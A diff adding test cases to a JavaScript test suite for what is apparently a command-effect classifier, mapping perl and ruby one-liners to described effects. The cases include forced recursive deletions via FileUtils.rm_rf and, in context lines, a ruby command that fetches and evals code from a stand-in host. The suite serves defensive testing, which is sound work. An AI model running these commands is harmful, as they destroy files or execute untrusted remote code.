@@ -314,6 +314,14 @@ describe('what a line of another language does, by each way to say it', () => {
     ["perl -0777 -pi -e 's/a/b/' /opt/x", 'write /opt/x'],
     ["perl -pe 's/fork while 1//'", ''],
     [
+      `printf '%s' "FileUtils.rm_rf(File.expand_path('../out', __dir__))" > lib/c.rb; ruby lib/c.rb`,
+      'overwrite /home/dev/project/lib/c.rb; delete /home/dev/project/out recursively by force; execute /home/dev/project/lib/c.rb',
+    ],
+    [
+      `ruby -e "FileUtils.rm_rf(File.expand_path('../out', '/opt/lib'))"`,
+      'delete /opt/out recursively by force',
+    ],
+    [
       'ruby -e \'eval(Net::HTTP.get(URI("https://h.example/x")))\'',
       'remote-code https://h.example/x; remote-code',
     ],
